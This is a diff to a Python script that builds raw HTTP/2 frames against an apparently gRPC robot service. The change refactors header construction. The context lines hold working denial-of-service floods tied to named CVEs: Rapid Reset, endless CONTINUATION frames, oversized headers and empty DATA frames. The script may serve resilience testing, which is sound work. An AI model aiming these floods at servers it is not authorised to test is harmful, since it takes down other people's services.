@@ -13,6 +13,8 @@ from h2.config import H2Configuration
 from h2.connection import H2Connection
 from hpack import Encoder
 
+from raw import headers_of
+
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -25,16 +27,9 @@ def frame(kind, flags, stream, payload=b""):
     return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
 
 
-def request(host, path="/viam.robot.v1.RobotService/GetOperations", extra=()):
+def request(host, port, extra=()):
     """The header block of an honest request."""
-    headers = [
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":path", path),
-        (":authority", host),
-        ("te", "trailers"),
-        ("content-type", "application/grpc"),
-    ]
+    headers = headers_of(host, port, "/viam.robot.v1.RobotService/GetOperations")
     return Encoder().encode(headers + list(extra), huffman=False)
 
 
@@ -70,7 +65,7 @@ def flood(connection, pieces):
 
 def rapid_reset(host, port):
     """Calls that are taken back at once, 20,000 of them (CVE-2023-44487)."""
-    block = request(f"{host}:{port}")
+    block = request(host, port)
 
     def pieces():
         for number in range(200):
@@ -85,7 +80,7 @@ def rapid_reset(host, port):
 
 def endless_headers(host, port):
     """A header block whose continuations never end (CVE-2024-24549 and its like)."""
-    first = frame(HEADERS, END_STREAM, 1, request(f"{host}:{port}"))
+    first = frame(HEADERS, END_STREAM, 1, request(host, port))
     more = frame(CONTINUATION, 0, 1, Encoder().encode([("x-filler", "y" * 8000)], huffman=False))
     return flood(greet(host, port), [first] + [more] * 20_000)
 
@@ -96,7 +91,7 @@ def huge_headers(host, port):
     http.initiate_connection()
     connection = socket.create_connection((host, port), timeout=10)
     connection.sendall(http.data_to_send())
-    block = request(f"{host}:{port}", extra=[(f"x-{number}", "y" * 1000) for number in range(1000)])
+    block = request(host, port, extra=[(f"x-{number}", "y" * 1000) for number in range(1000)])
 
     def pieces():
         for stream in range(1, 201, 2):
@@ -120,7 +115,7 @@ def settings(host, port):
 
 def empty_data(host, port):
     """A call whose body consists of empty frames (CVE-2019-9518)."""
-    head = frame(HEADERS, END_HEADERS, 1, request(f"{host}:{port}"))
+    head = frame(HEADERS, END_HEADERS, 1, request(host, port))
     return flood(greet(host, port), [head] + [frame(DATA, 0, 1) * 100] * 2_000)
 
 
